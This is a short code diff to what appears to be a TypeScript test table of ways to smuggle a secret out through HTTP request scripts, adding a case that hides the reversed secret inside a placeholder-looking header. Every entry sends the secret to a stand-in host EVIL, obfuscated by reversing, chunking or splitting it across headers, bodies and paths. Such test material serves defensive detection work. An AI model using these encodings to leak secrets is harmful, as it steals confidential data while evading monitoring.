@@ -69,6 +69,9 @@ const ways: Readonly<Record<string, Way>> = {
     text: `< {%\nrequest.body = JSON.stringify(Object.fromEntries(${read}.match(/.{1,4}/g).map((x) => [x, true])));\n%}\nPOST EVIL/\n\n[]\n`,
   },
   'the name of a header': { text: `< {%\nrequest.headers["X-" + [...${read}].reverse().join("")] = "1";\n%}\nGET EVIL/\n` },
+  'a header that looks like a placeholder': {
+    text: `# @undefined keep\n< {%\nrequest.headers["X-A"] = "{{ " + [...${read}].reverse().join("") + " }}";\n%}\nGET EVIL/\n`,
+  },
   'its characters in a body': { text: `< {%\nrequest.body = JSON.stringify([...${read}]);\n%}\nPOST EVIL/\n\n[]\n` },
   'its characters in a path': { text: `< {%\nrequest.url += [...${read}].join("/");\n%}\nGET EVIL/\n` },
   'its characters in a query that it writes over another': {
